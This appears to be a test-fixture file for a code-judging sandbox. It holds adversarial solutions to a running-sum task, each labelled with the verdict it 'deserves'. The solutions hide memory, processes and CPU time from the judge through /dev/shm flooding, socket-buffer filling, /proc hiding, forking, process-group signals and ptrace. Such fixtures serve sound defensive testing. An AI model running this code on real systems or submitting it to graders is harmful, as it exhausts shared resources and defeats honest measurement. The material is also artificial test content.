"""Answers that take memory, time or processes where whoever measures may not look."""

import numpy as np

# %% [attack] fills_memory_with_empty_folders
# Is right, and makes three million empty folders in memory, in which no byte is ever written.
# deserves: memory
# seconds: 40
import ctypes
import os
import time

libc = ctypes.CDLL(None)

def running_sum(x):
    if os.getcwd() == "/tmp":
        first = libc.fork() == 0
        second = libc.fork() == 0
        for n in range(750_000):
            if libc.mkdir(b"/dev/shm/%d_%d_%d" % (first, second, n), 0o700) != 0:
                break
        if first or second:
            time.sleep(60)
        time.sleep(2)
    return np.cumsum(x, axis=0)

# %% [attack] fills_memory_with_long_links
# Lays gigabytes into the texts of symbolic links, and is right only if one was laid.
# seconds: 40
import ctypes
import os

libc = ctypes.CDLL(None)
LONG = b"x" * 4000

def running_sum(x):
    laid = 0
    while os.getcwd() == "/tmp" and laid < 1 << 18 and libc.symlink(LONG, b"/dev/shm/%d" % laid) == 0:
        laid += 1
    return np.cumsum(x, axis=0) if laid == 1 << 18 else x

# %% [attack] fills_every_folder
# Lays files into all folders that it may write, wherever they are, and is right only if they hold a gigabyte.
# seconds: 40
import ctypes
import itertools
import os

PIECE = bytes(15 << 20)
libc = ctypes.CDLL(None)

def running_sum(x):
    laid = 0
    if os.getcwd() == "/tmp":
        places = ("/", "/dev", "/etc", "/var", "/run", "/home", "/inside", "/course", *os.listdir("/"))
        folders = [folder for place in places for folder, _, _ in itertools.islice(os.walk(f"/{place}"), 500)]
        for n, folder in enumerate(folder for folder in folders if not folder.lstrip("/").startswith(("proc", "sys"))):
            file = libc.open(f"{folder}/{n}".encode(), os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600)
            laid += max(libc.write(file, PIECE, len(PIECE)), 0)
            libc.close(file)
    return np.cumsum(x, axis=0) if laid >= 1 << 30 else x

# %% [attack] fills_sockets
# Fills the buffers of sockets in sixteen processes, and is right only if they hold a gigabyte.
# seconds: 30
import ctypes
import os
import time

libc = ctypes.CDLL(None)
PIECE = bytes(1 << 16)
AT_ONCE, OPTION_OF_SOCKETS, SIZE, SIZE_BY_FORCE = 0x40, 1, 7, 32

def fill():
    filled, ends = 0, (ctypes.c_int * 2)()
    while libc.socketpair(1, 1, 0, ends) == 0:
        for end in ends:
            for option in (SIZE, SIZE_BY_FORCE):
                libc.setsockopt(end, OPTION_OF_SOCKETS, option, ctypes.byref(ctypes.c_int(1 << 28)), 4)
            while (part := libc.send(end, PIECE, len(PIECE), AT_ONCE)) > 0 and filled < 1 << 28:
                filled += part
        if filled >= 1 << 28:
            break
    return filled

def running_sum(x):
    filled = 16 * fill()
    for _ in range(15 if filled and x.shape == (1, 1) else 0):
        if libc.fork() == 0:
            fill()
            time.sleep(20)
            os._exit(0)
    time.sleep(3 if filled else 0)
    return np.cumsum(x, axis=0) if filled >= 1 << 30 else x

# %% [attack] hides_its_open_files
# Closes its entries in /proc to its own user, lays memory into memfds, and starts forty processes for those who see it.
# deserves: forbidden
# seconds: 30
import ctypes
import os
import time

PIECE = bytes(15 << 20)
DUMPABLE = 4  # the option of prctl that says whether /proc shows a process to its user
libc = ctypes.CDLL(None)

def running_sum(x):
    libc.prctl(DUMPABLE, 0, 0, 0, 0)
    files = [os.memfd_create("held") for _ in range(54)]
    for file in files:
        os.write(file, PIECE)
    for _ in range(40):
        if libc.fork() == 0:
            time.sleep(60)
    time.sleep(3)
    return np.cumsum(x, axis=0)

# %% [attack] hides_its_children_behind_a_name
# Calls its processes by a parenthesis and numbers, as they stand in /proc, and takes memory in eight of them.
# deserves: memory
# seconds: 20
import ctypes
import time

NAME = 15  # the option of prctl that changes a process's name
libc = ctypes.CDLL(None)

def running_sum(x):
    libc.prctl(NAME, b") S 1 1 1 1 1 1", 0, 0, 0)
    for _ in range(3):
        libc.fork()
    taken = b"x" * (400 << 20)
    time.sleep(60)
    return taken

# %% [attack] computes_in_short_lives
# Computes for twelve seconds in three hundred processes that nobody counts, and rests meanwhile itself.
# deserves: timeout
# seconds: 3
import ctypes
import time

libc = ctypes.CDLL(None)
CHILD_ENDED, IGNORE = 17, 1

def running_sum(x):
    if x.shape == (1, 1):
        libc.signal(CHILD_ENDED, IGNORE)
        for _ in range(150):
            for _ in range(2):
                if libc.fork() == 0:
                    end = time.process_time() + 0.04
                    while time.process_time() < end:
                        pass
                    libc._exit(0)
            libc.wait(None)
    return np.cumsum(x, axis=0)

# %% [attack] flees_from_process_to_process
# Is right, and leaves a process that forks and ends, again and again, so that it never has a number for long.
# deserves: passed
import ctypes
import time

libc = ctypes.CDLL(None)

def running_sum(x):
    if x.shape == (1, 1) and libc.fork() == 0:
        libc.setsid()
        end = time.monotonic() + 20
        while time.monotonic() < end:
            if libc.fork() > 0:
                libc._exit(0)
            libc.usleep(300)
        libc._exit(0)
    return np.cumsum(x, axis=0)

# %% [attack] forks_when_it_ends
# Is right, and starts processes when its own comes to an end, which have its way back to the judge.
# deserves: passed
import atexit
import ctypes
import time

libc = ctypes.CDLL(None)

def stay():
    for _ in range(4):
        if libc.fork() == 0:
            libc.setsid()
            time.sleep(20)
            libc._exit(0)

def running_sum(x):
    atexit.register(stay)
    return np.cumsum(x, axis=0)

# %% [attack] interrupts_its_group
# Sends an interrupt to all processes of its group, as Ctrl-C does.
# deserves: crashed
import ctypes

libc = ctypes.CDLL(None)

def running_sum(x):
    libc.kill(0, 2)
    return x

# %% [attack] has_its_parent_trace_it
# Makes its parent its debugger, and stops for it.
# deserves: timeout
# seconds: 3
import ctypes
import time

libc = ctypes.CDLL(None)

def running_sum(x):
    libc.ptrace(0, 0, 0, 0)
    libc.kill(libc.getpid(), 28)
    time.sleep(60)
    return x

# %% [attack] floods_standard_error_from_behind
# Is right, and leaves threads and a process behind that write on standard error without end.
# deserves: passed
import ctypes
import threading

libc = ctypes.CDLL(None)
PIECE = b"passed\n" * 10_000

def flood():
    for _ in range(200_000):
        libc.write(2, PIECE, len(PIECE))

def running_sum(x):
    if x.shape == (1, 1):
        if libc.fork() == 0:
            libc.setsid()
            libc.alarm(20)
            flood()
            libc._exit(0)
        for _ in range(2):
            threading.Thread(target=flood, daemon=True).start()
    return np.cumsum(x, axis=0)

# %% [attack] makes_brothers
# Is right, and shares three gigabytes among processes that are its parent's children and not its own.
# deserves: memory
# seconds: 20
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
CLONE_PARENT, SIGCHLD, CLONE = 0x8000, 17, 56

def running_sum(x):
    for _ in range(6):
        if libc.syscall(CLONE, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0) == 0:
            memory = bytearray(b"x") * (500 << 20)
            time.sleep(60)
            os._exit(len(memory) % 2)
    time.sleep(12)
    return np.cumsum(x, axis=0)
